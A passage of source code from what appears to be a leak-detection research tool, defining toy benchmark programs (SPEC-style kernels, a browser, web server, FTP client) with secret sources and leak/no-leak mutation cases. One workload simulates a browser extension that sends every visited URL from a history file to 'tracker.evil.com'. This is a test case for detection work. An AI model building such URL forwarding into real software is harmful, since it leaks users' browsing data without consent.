    if (text[i] >= 'a' && text[i] <= 'z') { text[i] = text[i] - 32; }
    return 0;
}
int opLower(int i) {
    if (text[i] >= 'A' && text[i] <= 'Z') { text[i] = text[i] + 32; }
    return 0;
}
int opRot(int i) {
    if (text[i] >= 'a' && text[i] <= 'z') {
        text[i] = (text[i] - 'a' + 1) % 26 + 'a';
    }
    return 0;
}
int opStar(int i) {
    if (text[i] == 'e') { text[i] = '*'; }
    return 0;
}

int main() {
    char script[64];
    int sfd = open("/script.pl", 0);
    int slen = read(sfd, script, 63);
    close(sfd);
    int fd = open("/input.txt", 0);
    textLen = read(fd, text, 4096);
    close(fd);
    int i = 0;
    while (i < slen) {
        fn op = &opStar;
        int known = 0;
        if (script[i] == 'U') { op = &opUpper; known = 1; }
        if (script[i] == 'L') { op = &opLower; known = 1; }
        if (script[i] == 'R') { op = &opRot; known = 1; }
        if (script[i] == 'S') { known = 1; }
        if (known == 1) {
            for (int j = 0; j < textLen; j = j + 1) { op(j); }
        }
        i = i + 1;
    }
    int out = open("/out.txt", 1);
    write(out, text, textLen);
    close(out);
    return 0;
}
)";

Workload
makePerl()
{
    Workload w;
    w.name = "400.perlbench";
    w.category = Category::Spec;
    w.description = "script interpreter with a function-pointer op table";
    w.source = kPerl;
    w.world = [](int scale) {
        os::WorldSpec spec;
        Prng prng(0x1001);
        spec.files["/script.pl"] = "XURS";
        spec.files["/input.txt"] =
            randomText(prng, static_cast<std::size_t>(512 * scale));
        return spec;
    };
    w.sources = {SourceSpec::file("/script.pl", 1)};
    w.sinks = fileSinks();
    w.mutationCases = {
        // 'U' -> 'V': the upper-case pass disappears, output changes.
        {"leak", {SourceSpec::file("/script.pl", 1)}, true},
        // 'X' -> 'Y': still an unknown op, output unchanged.
        {"noleak", {SourceSpec::file("/script.pl", 0)}, false},
    };
    return w;
}

// -------------------------------------------------------------- bzip2
const char *kBzip = R"(
char inbuf[8192];
char outbuf[16384];

int main() {
    int fd = open("/input.dat", 0);
    int n = read(fd, inbuf, 8192);
    close(fd);
    int o = 0;
    int i = 0;
    while (i < n) {
        char c = inbuf[i];
        int run = 1;
        while (i + run < n && inbuf[i + run] == c && run < 200) {
            run = run + 1;
        }
        outbuf[o] = run;
        outbuf[o + 1] = c;
        o = o + 2;
        i = i + run;
    }
    int out = open("/out.rle", 1);
    write(out, outbuf, o);
    close(out);
    char stats[24];
    itoa(o, stats);
    print(stats, strlen(stats));
    return 0;
}
)";

Workload
makeBzip()
{
    Workload w;
    w.name = "401.bzip2";
    w.category = Category::Spec;
    w.description = "run-length compressor";
    w.source = kBzip;
    w.world = [](int scale) {
        os::WorldSpec spec;
        Prng prng(0x1002);
        std::string data;
        for (int i = 0; i < 64 * scale; ++i) {
            data += std::string(prng.below(20) + 1,
                                static_cast<char>('a' + prng.below(6)));
        }
        spec.files["/input.dat"] = data;
        return spec;
    };
    w.sources = {SourceSpec::file("/input.dat", 3)};
    w.sinks = fileSinks();
    w.mutationCases = {
        {"leak", {SourceSpec::file("/input.dat", 3)}, true},
    };
    return w;
}

// ---------------------------------------------------------------- gcc
// Mini preprocessor — the §8.4 case study: "#if NAME" blocks are kept
// or dropped based on the configuration file, a pure control
// dependence from config to output.
const char *kGcc = R"(
char src[8192];
char out[8192];
char defs[512];

int defined(char *name, int len) {
    int i = 0;
    while (defs[i] != 0) {
        int j = 0;
        while (defs[i + j] != 0 && defs[i + j] != '=') { j = j + 1; }
        int match = 1;
        if (j != len) { match = 0; }
        for (int k = 0; k < len; k = k + 1) {
            if (match == 1 && defs[i + k] != name[k]) { match = 0; }
        }
        int val = defs[i + j + 1] - '0';
        while (defs[i] != 0 && defs[i] != ';') { i = i + 1; }
        if (defs[i] == ';') { i = i + 1; }
        if (match == 1) { return val; }
    }
    return 0;
}

int main() {
    int cfd = open("/config.h", 0);
    int clen = read(cfd, defs, 511);
    close(cfd);
    defs[clen] = 0;
    int sfd = open("/src.c", 0);
    int slen = read(sfd, src, 8192);
    close(sfd);
    int o = 0;
    int i = 0;
    int skip = 0;
    int depth = 0;
    while (i < slen) {
        int e = i;
        while (e < slen && src[e] != '\n') { e = e + 1; }
        if (src[i] == '#') {
            if (src[i + 1] == 'i') {
                depth = depth + 1;
                if (skip == 0) {
                    int ns = i + 4;
                    int nl = e - ns;
                    if (defined(src + ns, nl) == 0) { skip = depth; }
                }
            } else {
                if (skip == depth) { skip = 0; }
                depth = depth - 1;
            }
        } else if (skip == 0) {
            for (int k = i; k <= e && k < slen; k = k + 1) {
                out[o] = src[k];
                o = o + 1;
            }
        }
        i = e + 1;
    }
    int ofd = open("/out.i", 1);
    write(ofd, out, o);
    close(ofd);
    return 0;
}
)";

Workload
makeGcc()
{
    Workload w;
    w.name = "403.gcc";
    w.category = Category::Spec;
    w.description = "mini preprocessor (the NGX_HAVE_POLL case study)";
    w.source = kGcc;
    w.world = [](int scale) {
        os::WorldSpec spec;
        spec.files["/config.h"] = "POLL=1;DEBUG=0;";
        std::string src;
        for (int i = 0; i < scale; ++i) {
            src += "int init() { return 0; }\n";
            src += "#if POLL\n";
            src += "int use_poll() { return poll_wait(); }\n";
            src += "#end\n";
            src += "#if DEBUG\n";
            src += "int log_all() { return 1; }\n";
            src += "#end\n";
            src += "int shutdown() { return 1; }\n";
        }
        spec.files["/src.c"] = src;
        return spec;
    };
    w.sources = {SourceSpec::file("/config.h", 0)};
    w.sinks = fileSinks();
    w.mutationCases = {
        // 'P' -> 'Q': POLL becomes undefined, its block vanishes.
        {"leak", {SourceSpec::file("/config.h", 0)}, true},
        // '1' -> '2': still truthy, preprocessed output unchanged.
        {"noleak", {SourceSpec::file("/config.h", 5)}, false},
    };
    return w;
}

// ---------------------------------------------------------------- mcf
const char *kMcf = R"(
int dist[64];
int esrc[512];
int edst[512];
int ecost[512];

int main() {
    char buf[2048];
    int fd = open("/graph.txt", 0);
    int n = read(fd, buf, 2048);
    close(fd);
    int nodes = buf[0] % 40 + 10;
    int ne = 0;
    int i = 1;
    while (i + 2 < n && ne < 512) {
        esrc[ne] = buf[i] % nodes;
        edst[ne] = buf[i + 1] % nodes;
        ecost[ne] = buf[i + 2] % 20 + 1;
        ne = ne + 1;
        i = i + 3;
    }
    for (int v = 0; v < nodes; v = v + 1) { dist[v] = 1000000; }
    dist[0] = 0;
    for (int r = 0; r < nodes; r = r + 1) {
        for (int e = 0; e < ne; e = e + 1) {
            int nd = dist[esrc[e]] + ecost[e];
            if (nd < dist[edst[e]]) { dist[edst[e]] = nd; }
        }
    }
    int total = 0;
    for (int v = 0; v < nodes; v = v + 1) {
        total = total + dist[v] % 100000;
    }
    char outb[24];
    itoa(total, outb);
    int out = open("/mcf.out", 1);
    write(out, outb, strlen(outb));
    close(out);
    return 0;
}
)";

Workload
makeMcf()
{
    Workload w;
    w.name = "429.mcf";
    w.category = Category::Spec;
    w.description = "Bellman-Ford relaxation over a file-defined graph";
    w.source = kMcf;
    w.world = [](int scale) {
        os::WorldSpec spec;
        Prng prng(0x1004);
        spec.files["/graph.txt"] =
            randomBytes(prng, static_cast<std::size_t>(600 * scale));
        return spec;
    };
    w.sources = {SourceSpec::file("/graph.txt", 0)};
    w.sinks = fileSinks();
    w.mutationCases = {
        // Byte 0 sets the node count: distances change broadly.
        {"leak", {SourceSpec::file("/graph.txt", 0)}, true},
    };
    return w;
}

// -------------------------------------------------------------- gobmk
const char *kGobmk = R"(
char board[400];
int w;
int h;

int fill(int pos) {
    if (pos < 0 || pos >= w * h) { return 0; }
    if (board[pos] != '.') { return 0; }
    board[pos] = '#';
    int c = 1;
    c = c + fill(pos - 1);
    c = c + fill(pos + 1);
    c = c + fill(pos - w);
    c = c + fill(pos + w);
    return c;
}

int main() {
    char buf[512];
    int fd = open("/board.txt", 0);
    int n = read(fd, buf, 512);
    close(fd);
    w = 18;
    h = 18;
    for (int i = 0; i < w * h; i = i + 1) { board[i] = '.'; }
    for (int i = 0; i + 1 < n; i = i + 2) {
        int pos = (buf[i] % h) * w + buf[i + 1] % w;
        board[pos] = 'o';
    }
    char mv[8];
    getenv("MOVE", mv, 8);
    int start = (mv[0] % h) * w + mv[1] % w;
    int territory = fill(start);
    int sig = territory * 1000 + start;
    char outb[24];
    itoa(sig, outb);
    int out = open("/gobmk.out", 1);
    write(out, outb, strlen(outb));
    close(out);
    return 0;
}
)";

Workload
makeGobmk()
{
    Workload w;
    w.name = "445.gobmk";
    w.category = Category::Spec;
    w.description = "board territory flood fill (deep recursion)";
    w.source = kGobmk;
    w.world = [](int scale) {
        os::WorldSpec spec;
        Prng prng(0x1005);
        spec.files["/board.txt"] =
            randomBytes(prng, static_cast<std::size_t>(
                40 + 8 * scale));
        spec.env["MOVE"] = "57";
        return spec;
    };
    w.sources = {SourceSpec::env("MOVE", 0)};
    w.sinks = fileSinks();
    w.mutationCases = {
        {"leak", {SourceSpec::env("MOVE", 0)}, true},
    };
    return w;
}

// -------------------------------------------------------------- hmmer
const char *kHmmer = R"(
int dp[4160];

int max2(int a, int b) {
    if (a > b) { return a; }
    return b;
}

int main() {
    char pat[64];
    char seq[4096];
    int pfd = open("/pattern.txt", 0);
    int plen = read(pfd, pat, 63);
    close(pfd);
    int sfd = open("/sequence.txt", 0);
    int slen = read(sfd, seq, 4095);
    close(sfd);
    if (plen > 60) { plen = 60; }
    int best = 0;
    int stride = plen + 1;
    for (int i = 1; i <= plen; i = i + 1) { dp[i] = 0; }
    for (int j = 1; j <= slen; j = j + 1) {
        int rowj = (j % 2) * stride;
        int rowp = ((j + 1) % 2) * stride;
        dp[rowj] = 0;
        for (int i = 1; i <= plen; i = i + 1) {
            int sc = 0 - 1;
            if (pat[i - 1] == seq[j - 1]) { sc = 2; }
            int v = max2(dp[rowp + i - 1] + sc,
                         max2(dp[rowp + i] - 1, dp[rowj + i - 1] - 1));
            if (v < 0) { v = 0; }
            dp[rowj + i] = v;
            best = max2(best, v);
        }
    }
    char outb[24];
    itoa(best, outb);
    int out = open("/hmmer.out", 1);
    write(out, outb, strlen(outb));
    close(out);
    return 0;
}
)";

Workload
makeHmmer()
{
    Workload w;
    w.name = "456.hmmer";
    w.category = Category::Spec;
    w.description = "local sequence alignment (dynamic programming)";
    w.source = kHmmer;
    w.world = [](int scale) {
        os::WorldSpec spec;
        Prng prng(0x1006);
        spec.files["/pattern.txt"] = randomText(prng, 24);
        spec.files["/sequence.txt"] =
            randomText(prng, static_cast<std::size_t>(512 * scale));
        return spec;
    };
    w.sources = {SourceSpec::file("/pattern.txt", 2)};
    w.sinks = fileSinks();
    w.mutationCases = {
        {"leak", {SourceSpec::file("/pattern.txt", 2)}, true},
    };
    return w;
}

// -------------------------------------------------------------- sjeng
const char *kSjeng = R"(
int board[36];
int nodes;

int eval() {
    int s = 0;
    for (int i = 0; i < 36; i = i + 1) {
        s = s + board[i] * ((i % 7) - 3);
    }
    return s;
}

int search(int depth, int color) {
    nodes = nodes + 1;
    if (depth == 0) { return eval() * color; }
    int best = 0 - 1000000;
    for (int m = 0; m < 4; m = m + 1) {
        int sq = (nodes * 7 + m * 13) % 36;
        int saved = board[sq];
        board[sq] = color;
        int v = 0 - search(depth - 1, 0 - color);
        board[sq] = saved;
        if (v > best) { best = v; }
    }
    return best;
}

int main() {
    char buf[64];
    int fd = open("/position.txt", 0);
    int n = read(fd, buf, 40);
    close(fd);
    for (int i = 0; i < 36; i = i + 1) {
        board[i] = 0;
        if (i < n) { board[i] = buf[i] % 3 - 1; }
    }
    char d[8];
    getenv("DEPTH", d, 8);
    int depth = d[0] - '0';
    if (depth < 1) { depth = 1; }
    if (depth > 8) { depth = 8; }
    nodes = 0;
    int score = search(depth, 1);
    char outb[48];
    itoa(score, outb);
    int out = open("/sjeng.out", 1);
    write(out, outb, strlen(outb));
    char nb[24];
    itoa(nodes, nb);
    write(out, nb, strlen(nb));
    close(out);
    return 0;
}
)";

Workload
makeSjeng()
{
    Workload w;
    w.name = "458.sjeng";
    w.category = Category::Spec;
    w.description = "negamax game-tree search (recursion)";
    w.source = kSjeng;
    w.world = [](int scale) {
        os::WorldSpec spec;
        Prng prng(0x1007);
        spec.files["/position.txt"] = randomBytes(prng, 36);
        spec.env["DEPTH"] = std::to_string(std::min(8, 4 + scale / 2));
        return spec;
    };
    w.sources = {SourceSpec::file("/position.txt", 5)};
    w.sinks = fileSinks();
    w.mutationCases = {
        {"leak", {SourceSpec::file("/position.txt", 5)}, true},
    };
    return w;
}

// ---------------------------------------------------------- libquantum
const char *kQuantum = R"(
int state[64];

int main() {
    char prog[512];
    int fd = open("/circuit.txt", 0);
    int n = read(fd, prog, 512);
    close(fd);
    for (int i = 0; i < 64; i = i + 1) { state[i] = i; }
    for (int p = 0; p + 1 < n; p = p + 2) {
        int gate = prog[p] % 3;
        int target = prog[p + 1] % 64;
        if (gate == 0) {
            for (int i = 0; i < 64; i = i + 1) {
                state[i] = state[i] ^ (1 << (target % 16));
            }
        } else if (gate == 1) {
            state[target] = state[target] * 5 + 1;
        } else {
            int c = state[target] & 1;
            if (c == 1) {
                for (int i = 0; i < 64; i = i + 1) {
                    state[i] = state[i] + target;
                }
            }
        }
    }
    int h = 0;
    for (int i = 0; i < 64; i = i + 1) {
        h = h * 31 + state[i] % 9973;
    }
    char outb[24];
    itoa(h % 1000000, outb);
    int out = open("/quantum.out", 1);
    write(out, outb, strlen(outb));
    close(out);
    return 0;
}
)";

Workload
makeQuantum()
{
    Workload w;
    w.name = "462.libquantum";
    w.category = Category::Spec;
    w.description = "gate-program register simulation";
    w.source = kQuantum;
    w.world = [](int scale) {
        os::WorldSpec spec;
        Prng prng(0x1008);
        spec.files["/circuit.txt"] = randomBytes(
            prng, static_cast<std::size_t>(std::min(512, 128 * scale)));
        return spec;
    };
    w.sources = {SourceSpec::file("/circuit.txt", 6)};
    w.sinks = fileSinks();
    w.mutationCases = {
        {"leak", {SourceSpec::file("/circuit.txt", 6)}, true},
    };
    return w;
}

// ------------------------------------------------------------ h264ref
const char *kH264 = R"(
char frame[4096];
char coded[8192];

int main() {
    int fd = open("/frame.yuv", 0);
    int n = read(fd, frame, 4096);
    close(fd);
    char qbuf[8];
    getenv("QP", qbuf, 8);
    int qp = qbuf[0] - '0' + 1;
    int o = 0;
    int bits = 0;
    for (int b = 0; b + 16 <= n; b = b + 16) {
        int pred = 0;
        for (int i = 0; i < 16; i = i + 1) {
            pred = pred + frame[b + i];
        }
        pred = pred / 16;
        coded[o] = pred;
        o = o + 1;
        for (int i = 0; i < 16; i = i + 1) {
            int resid = (frame[b + i] - pred) / qp;
            coded[o] = resid + 128;
            o = o + 1;
            if (resid != 0) { bits = bits + 8; } else { bits = bits + 1; }
        }
    }
    int out = open("/frame.264", 1);
    write(out, coded, o);
    close(out);
    char sb[24];
    itoa(bits, sb);
    print(sb, strlen(sb));
    return 0;
}
)";

Workload
makeH264()
{
    Workload w;
    w.name = "464.h264ref";
    w.category = Category::Spec;
    w.description = "block predictor + quantizer encoder";
    w.source = kH264;
    w.world = [](int scale) {
        os::WorldSpec spec;
        Prng prng(0x1009);
        spec.files["/frame.yuv"] =
            randomBytes(prng, static_cast<std::size_t>(1024 * scale));
        spec.env["QP"] = "3";
        return spec;
    };
    w.sources = {SourceSpec::env("QP", 0)};
    w.sinks = fileSinks();
    w.mutationCases = {
        {"leak", {SourceSpec::env("QP", 0)}, true},
    };
    return w;
}

// ------------------------------------------------------------ omnetpp
const char *kOmnet = R"(
int evTime[256];
int evType[256];
int evCount;
int processed[4];

int push(int t, int ty) {
    if (evCount >= 256) { return 0; }
    evTime[evCount] = t;
    evType[evCount] = ty;
    evCount = evCount + 1;
    return 1;
}

int popMin() {
    int best = 0;
    for (int i = 1; i < evCount; i = i + 1) {
        if (evTime[i] < evTime[best]) { best = i; }
    }
    int ty = evType[best];
    evCount = evCount - 1;
    evTime[best] = evTime[evCount];
    evType[best] = evType[evCount];
    return ty;
}

int main() {
    char buf[512];
    int fd = open("/events.txt", 0);
    int n = read(fd, buf, 512);
    close(fd);
    evCount = 0;
    for (int i = 0; i + 1 < n; i = i + 2) {
        push(buf[i] % 200, buf[i + 1] % 4);
    }
    int clock = 0;
    int steps = 0;
    while (evCount > 0 && steps < 5000) {
        int ty = popMin();
        processed[ty] = processed[ty] + 1;
        clock = clock + 1;
        if (ty == 2 && evCount < 200) {
            push(clock + 17, (clock * 3) % 4);
        }
        steps = steps + 1;
    }
    int out = open("/omnet.out", 1);
    for (int t = 0; t < 4; t = t + 1) {
        char ob[24];
        itoa(processed[t], ob);
        write(out, ob, strlen(ob));
        write(out, ",", 1);
    }
    close(out);
    return 0;
}
)";

Workload
makeOmnet()
{
    Workload w;
    w.name = "471.omnetpp";
    w.category = Category::Spec;
    w.description = "discrete event simulation";
    w.source = kOmnet;
    w.world = [](int scale) {
        os::WorldSpec spec;
        Prng prng(0x100a);
        spec.files["/events.txt"] = randomBytes(
            prng, static_cast<std::size_t>(std::min(512, 96 * scale)));
        return spec;
    };
    w.sources = {SourceSpec::file("/events.txt", 7)};
    w.sinks = fileSinks();
    w.mutationCases = {
        {"leak", {SourceSpec::file("/events.txt", 7)}, true},
    };
    return w;
}

// -------------------------------------------------------------- astar
const char *kAstar = R"(
char grid[1024];
int frontier[1024];
int dist[1024];

int main() {
    char buf[1200];
    int fd = open("/map.txt", 0);
    int n = read(fd, buf, 1024);
    close(fd);
    int side = 32;
    int cells = side * side;
    for (int i = 0; i < cells; i = i + 1) {
        grid[i] = '.';
        if (i < n && buf[i] % 5 == 0) { grid[i] = '#'; }
        dist[i] = 0 - 1;
    }
    grid[0] = '.';
    grid[cells - 1] = '.';
    int head = 0;
    int tail = 0;
    frontier[tail] = 0;
    tail = tail + 1;
    dist[0] = 0;
    while (head < tail) {
        int cur = frontier[head];
        head = head + 1;
        int r = cur / side;
        int c = cur % side;
        for (int d = 0; d < 4; d = d + 1) {
            int nr = r;
            int nc = c;
            if (d == 0) { nr = r - 1; }
            if (d == 1) { nr = r + 1; }
            if (d == 2) { nc = c - 1; }
            if (d == 3) { nc = c + 1; }
            if (nr >= 0 && nr < side && nc >= 0 && nc < side) {
                int np = nr * side + nc;
                if (grid[np] != '#' && dist[np] < 0 && tail < 1024) {
                    dist[np] = dist[cur] + 1;
                    frontier[tail] = np;
                    tail = tail + 1;
                }
            }
        }
    }
    char outb[24];
    itoa(dist[cells - 1], outb);
    int out = open("/astar.out", 1);
    write(out, outb, strlen(outb));
    close(out);
    return 0;
}
)";

Workload
makeAstar()
{
    Workload w;
    w.name = "473.astar";
    w.category = Category::Spec;
    w.description = "grid pathfinding (BFS over a file-defined map)";
    w.source = kAstar;
    w.world = [](int scale) {
        os::WorldSpec spec;
        Prng prng(0x100b + static_cast<unsigned>(scale));
        spec.files["/map.txt"] = randomBytes(prng, 1024);
        return spec;
    };
    w.sources = {SourceSpec::file("/map.txt", 33)};
    w.sinks = fileSinks();
    w.mutationCases = {
        {"leak", {SourceSpec::file("/map.txt", 33)}, true},
    };
    return w;
}

// ---------------------------------------------------------- xalancbmk
const char *kXalan = R"(
char doc[4096];
char out[16384];
char style[64];
int pos;
int opos;

int emit(int c) {
    if (opos < 16383) {
        out[opos] = c;
        opos = opos + 1;
    }
    return 0;
}

int renamed(int c) {
    int i = 0;
    while (style[i] != 0) {
        if (style[i] == c) { return style[i + 1]; }
        i = i + 2;
    }
    return c;
}

int transform() {
    // doc[pos] == '('
    pos = pos + 1;
    int tag = doc[pos];
    pos = pos + 1;
    emit('<');
    emit(renamed(tag));
    emit('>');
    while (pos < 4096 && doc[pos] != ')' && doc[pos] != 0) {
        if (doc[pos] == '(') {
            transform();
        } else {
            emit(doc[pos]);
            pos = pos + 1;
        }
    }
    pos = pos + 1;
    emit('<');
    emit('/');
    emit(renamed(tag));
    emit('>');
    return 0;
}

int main() {
    int sfd = open("/style.txt", 0);
    int sn = read(sfd, style, 63);
    close(sfd);
    style[sn] = 0;
    int dfd = open("/doc.xml", 0);
    int dn = read(dfd, doc, 4095);
    close(dfd);
    doc[dn] = 0;
    pos = 0;
    opos = 0;
    while (pos < dn) {
        if (doc[pos] == '(') {
            transform();
        } else {
            pos = pos + 1;
        }
    }
    int ofd = open("/doc.html", 1);
    write(ofd, out, opos);
    close(ofd);
    return 0;
}
)";

Workload
makeXalan()
{
    Workload w;
    w.name = "483.xalancbmk";
    w.category = Category::Spec;
    w.description = "recursive tree transform with a stylesheet map";
    w.source = kXalan;
    w.world = [](int scale) {
        os::WorldSpec spec;
        Prng prng(0x100c);
        std::string doc;
        std::function<void(int)> gen = [&](int depth) {
            doc += '(';
            doc += static_cast<char>('a' + prng.below(6));
            int kids = depth > 0
                ? static_cast<int>(prng.below(3)) : 0;
            for (int k = 0; k < kids; ++k)
                gen(depth - 1);
            doc += static_cast<char>('x' + prng.below(3));
            doc += ')';
        };
        for (int i = 0; i < 8 * scale; ++i)
            gen(4);
        spec.files["/doc.xml"] = doc;
        spec.files["/style.txt"] = "aAbBcC";
        return spec;
    };
    w.sources = {SourceSpec::file("/style.txt", 1)};
    w.sinks = fileSinks();
    w.mutationCases = {
        {"leak", {SourceSpec::file("/style.txt", 1)}, true},
    };
    return w;
}

} // namespace

std::vector<Workload>
specWorkloads()
{
    return {makePerl(), makeBzip(), makeGcc(),   makeMcf(),
            makeGobmk(), makeHmmer(), makeSjeng(), makeQuantum(),
            makeH264(), makeOmnet(), makeAstar(), makeXalan()};
}

} // namespace ldx::workloads
