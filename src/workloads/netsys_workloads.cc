/**
 * @file
 * Network / system workloads (the leak-detection set of Table 1):
 * a browser with a URL-leaking extension (the Firefox/ShowIP case
 * study), a text browser, a web server, an ftp client, and a system
 * statistics reporter.
 */
#include "workloads/workloads.h"

#include "support/prng.h"

namespace ldx::workloads {

namespace {

using core::SourceSpec;

core::SinkConfig
netSinks()
{
    core::SinkConfig s;
    s.net = true;
    s.file = false;
    s.console = false;
    return s;
}

// ------------------------------------------------------------ firefox
// Event-loop "browser": loads pages named by an input script; the
// ShowIP-style extension forwards every visited URL to a tracker
// host. The URL (derived from the secret history file) leaks.
const char *kFirefox = R"(
char history[512];
char page[2048];

int loadPage(char *url, int len) {
    int s = socket();
    if (connect(s, "web.example.com") < 0) { return 0 - 1; }
    send(s, url, len);
    int n = recv(s, page, 2047);
    close(s);
    return n;
}

int extensionShowIp(char *url, int len) {
    int s = socket();
    if (connect(s, "tracker.evil.com") < 0) { return 0 - 1; }
    send(s, url, len);
    char ip[64];
    int n = recv(s, ip, 63);
    close(s);
    return n;
}

int main() {
    int fd = open("/history.txt", 0);
    int n = read(fd, history, 511);
    close(fd);
    history[n] = 0;
    int i = 0;
    int events = 0;
    while (i < n) {
        int e = i;
        while (e < n && history[e] != '\n') { e = e + 1; }
        int len = e - i;
        if (len > 0) {
            loadPage(history + i, len);
            extensionShowIp(history + i, len);
            events = events + 1;
        }
        i = e + 1;
    }
    char eb[16];
    itoa(events, eb);
    print(eb, strlen(eb));
    return 0;
}
)";

Workload
makeFirefox()
{
    Workload w;
    w.name = "firefox";
    w.category = Category::NetSys;
    w.description =
        "event-loop browser with a URL-forwarding extension (ShowIP)";
    w.source = kFirefox;
    w.world = [](int scale) {
        os::WorldSpec spec;
        std::string hist;
        for (int i = 0; i < 3 * scale; ++i)
            hist += "site" + std::to_string(i) + ".example/page\n";
        spec.files["/history.txt"] = hist;
        os::PeerScript web;
        for (int i = 0; i < 3 * scale; ++i)
            web.responses.push_back("<html>page " + std::to_string(i) +
                                    "</html>");
        spec.peers["web.example.com"] = web;
        os::PeerScript tracker;
        for (int i = 0; i < 3 * scale; ++i)
            tracker.responses.push_back("10.0.0.1");
        spec.peers["tracker.evil.com"] = tracker;
        return spec;
    };
    w.sources = {SourceSpec::file("/history.txt", 4)};
    w.sinks = netSinks();
    w.mutationCases = {
        // URL byte reaches the tracker verbatim.
        {"leak", {SourceSpec::file("/history.txt", 4)}, true},
    };
    return w;
}

// --------------------------------------------------------------- lynx
// Text browser: fetches a page, renders it (strips tags), optionally
// sends the cookie from the jar. Mutating the cookie leaks; mutating
// the render width does not reach the network.
const char *kLynx = R"(
char pagebuf[4096];
char rendered[4096];

int main() {
    char cookie[64];
    int cf = open("/cookies.txt", 0);
    int clen = read(cf, cookie, 63);
    close(cf);
    char wbuf[8];
    getenv("COLUMNS", wbuf, 8);
    int width = atoi(wbuf);
    if (width < 20) { width = 20; }

    int s = socket();
    if (connect(s, "news.example.com") < 0) { return 1; }
    send(s, "GET / HTTP/1.0\n", 15);
    if (clen > 0) {
        send(s, cookie, clen);
    }
    int n = recv(s, pagebuf, 4095);
    close(s);

    int o = 0;
    int col = 0;
    int intag = 0;
    for (int i = 0; i < n; i = i + 1) {
        if (pagebuf[i] == '<') { intag = 1; }
        if (intag == 0) {
            rendered[o] = pagebuf[i];
            o = o + 1;
            col = col + 1;
            if (col >= width) {
                rendered[o] = '\n';
                o = o + 1;
                col = 0;
            }
        }
        if (pagebuf[i] == '>') { intag = 0; }
    }
    int out = open("/render.txt", 1);
    write(out, rendered, o);
    close(out);
    return 0;
}
)";

Workload
makeLynx()
{
    Workload w;
    w.name = "lynx";
    w.category = Category::NetSys;
    w.description = "text browser sending a cookie header";
    w.source = kLynx;
    w.world = [](int scale) {
        os::WorldSpec spec;
        spec.files["/cookies.txt"] = "session=abcdef123456";
        spec.env["COLUMNS"] = "40";
        std::string page = "<html><body>";
        Prng prng(0x2002);
        for (int i = 0; i < 20 * scale; ++i) {
            page += "<p>paragraph " + std::to_string(i) + " ";
            for (int k = 0; k < 16; ++k)
                page += static_cast<char>('a' + prng.below(26));
            page += "</p>";
        }
        page += "</body></html>";
        spec.peers["news.example.com"].responses = {page};
        return spec;
    };
    w.sources = {SourceSpec::file("/cookies.txt", 10)};
    w.sinks = netSinks();
    w.mutationCases = {
        // Cookie bytes go out on the wire.
        {"leak", {SourceSpec::file("/cookies.txt", 10)}, true},
        // Render width only affects the local file, not the network.
        {"noleak", {SourceSpec::env("COLUMNS", 0)}, false},
    };
    return w;
}

// -------------------------------------------------------------- nginx
// Web server: serves /site/<path> for each inbound request; the
// server identity banner comes from the config file.
const char *kNginx = R"(
char conf[128];
char req[512];
char body[2048];
char resp[4096];
int verbose;

int serveOne(int c) {
    int n = recv(c, req, 511);
    if (n <= 0) { close(c); return 0; }
    req[n] = 0;
    // Path begins after "GET ".
    char path[128];
    int p = 0;
    while (p + 4 < n && req[p + 4] != ' ' && req[p + 4] != '\n' &&
           p < 120) {
        path[p] = req[p + 4];
        p = p + 1;
    }
    path[p] = 0;
    char full[160];
    strcpy(full, "/site");
    strcat(full, path);
    int o = 0;
    int fd = open(full, 0);
    if (fd < 0) {
        strcpy(resp, "404 ");
        o = 4;
    } else {
        int blen = read(fd, body, 2047);
        close(fd);
        strcpy(resp, "200 server=");
        o = 11;
        int ci = 0;
        while (conf[ci] != 0 && conf[ci] != '\n') {
            resp[o] = conf[ci];
            o = o + 1;
            ci = ci + 1;
        }
        resp[o] = '\n';
        o = o + 1;
        for (int i = 0; i < blen; i = i + 1) {
            resp[o] = body[i];
            o = o + 1;
        }
    }
    send(c, resp, o);
    close(c);
    if (verbose == 1) {
        int lg = open("/debug.log", 2);
        write(lg, req, n);
        close(lg);
    }
    return 1;
}

int main() {
    int cf = open("/nginx.conf", 0);
    int clen = read(cf, conf, 127);
    close(cf);
    conf[clen] = 0;
    verbose = 0;
    for (int i = 0; i + 1 < clen; i = i + 1) {
        if (conf[i] == '\n' && conf[i + 1] == 'v') { verbose = 1; }
    }
    int s = socket();
    listen(s, 80);
    int served = 0;
    while (1) {
        int c = accept(s);
        if (c < 0) { break; }
        served = served + serveOne(c);
    }
    int lg = open("/access.log", 2);
    char lb[16];
    itoa(served, lb);
    write(lg, lb, strlen(lb));
    close(lg);
    return 0;
}
)";

Workload
makeNginx()
{
    Workload w;
    w.name = "nginx";
    w.category = Category::NetSys;
    w.description = "web server echoing its config banner";
    w.source = kNginx;
    w.world = [](int scale) {
        os::WorldSpec spec;
        spec.files["/nginx.conf"] = "edge-7\nu";
        Prng prng(0x2003);
        for (int i = 0; i < 4; ++i) {
            std::string content;
            for (int k = 0; k < 100 * scale; ++k)
                content += static_cast<char>('a' + prng.below(26));
            spec.files["/site/p" + std::to_string(i)] = content;
        }
        for (int i = 0; i < 4 * scale; ++i) {
            spec.incoming.push_back(
                {"GET /p" + std::to_string(i % 4) + " HTTP/1.0\n"});
        }
        return spec;
    };
    w.sources = {SourceSpec::file("/nginx.conf", 0)};
    w.sinks = netSinks();
    w.mutationCases = {
        // The banner is sent in every response.
        {"leak", {SourceSpec::file("/nginx.conf", 0)}, true},
        // 'u' -> 'v' turns on verbose debug logging: many extra file
        // syscalls per request, but the network output is unchanged.
        // TightLip cannot realign past the burst; LDX can.
        {"noleak", {SourceSpec::file("/nginx.conf", 7)}, false},
    };
    return w;
}

// -------------------------------------------------------------- tnftp
// FTP client: logs in with credentials from /netrc, then downloads a
// file and stores it locally.
const char *kTnftp = R"(
char netrc[64];
char filebuf[4096];

int main() {
    int nf = open("/netrc", 0);
    int nl = read(nf, netrc, 63);
    close(nf);
    netrc[nl] = 0;

    int s = socket();
    if (connect(s, "ftp.example.com") < 0) { return 1; }
    char hello[64];
    recv(s, hello, 63);
    send(s, "USER ", 5);
    int u = 0;
    while (netrc[u] != 0 && netrc[u] != ':') { u = u + 1; }
    send(s, netrc, u);
    recv(s, hello, 63);
    send(s, "PASS ", 5);
    send(s, netrc + u + 1, strlen(netrc + u + 1));
    recv(s, hello, 63);
    send(s, "RETR data.bin", 13);
    int total = 0;
    int n = recv(s, filebuf, 4095);
    while (n > 0) {
        total = total + n;
        int out = open("/download.bin", 2);
        write(out, filebuf, n);
        close(out);
        n = recv(s, filebuf, 4095);
    }
    close(s);
    char tb[16];
